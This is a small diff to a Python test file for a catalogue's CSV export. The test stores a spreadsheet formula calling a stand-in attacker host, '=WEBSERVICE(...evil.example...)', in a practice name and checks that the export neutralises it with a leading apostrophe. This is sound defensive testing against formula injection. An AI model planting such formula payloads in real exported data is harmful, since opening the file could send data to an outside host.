@@ -58,11 +58,11 @@ def test_csv_export(client, catalogue):
 def test_csv_export_headers_follow_lang_and_formulas_stay_text(client, catalogue):
     from practices.models import Practice
 
-    Practice.objects.filter(name_en="Cover crops").update(name_fr="=WEBSERVICE(\"https://evil.example\")")
+    Practice.objects.filter(name_en="Cover crops").update(name_fr='=WEBSERVICE("https://evil.example")')
     response = client.get("/api/v1/practices.csv", {"category": "cover-crops", "lang": "fr"})
     header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
     assert header[3:6] == ["Nom", "Définition", "Catégorie"]
-    assert row[3] == "'=WEBSERVICE(\"https://evil.example\")"
+    assert row[3] == '\'=WEBSERVICE("https://evil.example")'
 
 
 def test_openapi_schema_documents_the_three_formats(client, db):
